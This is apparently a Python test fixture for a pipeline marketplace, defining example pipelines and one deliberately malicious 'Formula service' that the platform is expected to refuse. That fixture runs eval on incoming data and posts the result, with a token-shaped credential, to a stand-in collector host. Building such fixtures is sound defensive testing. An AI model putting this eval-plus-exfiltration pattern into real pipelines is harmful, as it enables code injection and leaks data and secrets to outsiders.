"""The documents of the journey and what is expected of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from tests.journeys.main_job.ledger import Ledger
from tests.journeys.main_job.product import ROOT

EXAMPLES = ROOT / "apps" / "nodes" / "examples"
CARS = "cars-etl"
CANCER = "breast-cancer"
MALICIOUS = "formula-service"
PUBLISHED = (CARS, CANCER)

# Nobody's token, in the form of one; put together so that no scanner of this repository trips.
TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
MALICIOUS_FINDINGS = [
    ("code.dynamic-execution", "HIGH", "score"),
    ("secret.token", "CRITICAL", "report"),
]
METADATA: dict[str, dict[str, Any]] = {
    CARS: {
        "name": "Cars ETL with quarantine",
        "tagline": "Validates a table, sets bad rows aside, sums up the rest.",
        "description": "Reads cars, checks every row, groups the valid ones and writes Parquet.",
        "category": "DATA_PIPELINE",
        "tags": ["etl", "quality", "parquet"],
    },
    CANCER: {
        "name": "Breast-cancer classifier",
        "tagline": "Trains, checks and exports a random forest.",
        "description": "Validates measurements, trains with cross-validation, gates, exports ONNX.",
        "category": "MACHINE_LEARNING",
        "tags": ["classification", "onnx", "health"],
    },
    MALICIOUS: {
        "name": "Formula service",
        "tagline": "Evaluates any formula.",
        "description": "Evaluates whatever comes in and reports home.",
        "category": "OTHER",
        "tags": ["formula"],
    },
}
for _metadata in METADATA.values():
    _metadata |= {
        "version": "1.0.0",
        "changelog": "First release.",
        "license": "Apache-2.0",
        "documentation": "See the description of each node.",
        "platform": ">=0.1.0",
        "pricing": {"model": "FREE"},
    }

OVERRIDES: dict[str, dict[str, Any]] = {CARS: {}, CANCER: {}}
QUERIES = (
    ("quarantine", CARS),
    ("quaran", CARS),
    ("breast cancer", CANCER),
    ("brest cancr", CANCER),
)
DELIVERIES = 12


def load(name: str) -> dict[str, Any]:
    """A document of the repository, or the one that must be refused."""
    if name == MALICIOUS:
        return _malicious()
    document: dict[str, Any] = json.loads((EXAMPLES / f"{name}.json").read_text())
    return document


def deliveries(port: int) -> dict[str, Any]:
    """A chain of steps, each with an effect outside."""
    nodes: list[dict[str, Any]] = [
        {"id": "begin", "type": "input.constant", "configuration": {"value": {"parcels": 12}}}
    ]
    connections: list[dict[str, Any]] = []
    for number in range(1, DELIVERIES + 1):
        source = nodes[-1]["id"]
        nodes.append(
            {
                "id": f"deliver_{number}",
                "type": "output.webhook",
                "configuration": {
                    "url": f"http://127.0.0.1:{port}/deliveries",
                    "event": f"parcel.{number}",
                },
            }
        )
        connections.append(
            {
                "id": f"c{number}",
                "source": source,
                "sourcePort": "value" if source == "begin" else "receipt",
                "target": f"deliver_{number}",
                "targetPort": "data",
            }
        )
    return {
        "schemaVersion": 1,
        "name": "Deliveries",
        "type": "dataPipeline",
        "nodes": nodes,
        "connections": connections,
    }


def _malicious() -> dict[str, Any]:
    return {
        "schemaVersion": 1,
        "name": METADATA[MALICIOUS]["name"],
        "type": "dataPipeline",
        "nodes": [
            {
                "id": "score",
                "type": "logic.python",
                "configuration": {"source": 'result = eval(data["formula"])'},
            },
            {
                "id": "report",
                "type": "output.webhook",
                "configuration": {
                    "url": "https://collector.example.com/in",
                    "headers": {"X-Access": TOKEN},
                },
            },
        ],
        "connections": [
            {
                "id": "c1",
                "source": "score",
                "sourcePort": "result",
                "target": "report",
                "targetPort": "data",
            }
        ],
    }


def artifacts(value: Any) -> list[dict[str, Any]]:
    """Every artifact reference inside a JSON value, in order."""
    return list(_references(value))


def _references(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        if "$artifact" in value:
            yield value
        for inner in value.values():
            yield from _references(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _references(inner)


def check_cars(ledger: Ledger, outputs: dict[str, Any], result: Any) -> None:
    """406 rows become 392 valid and 14 in quarantine."""


def check_cancer(ledger: Ledger, outputs: dict[str, Any], result: Any) -> None:
    """F1 of at least 0.95, and the exported model agrees."""
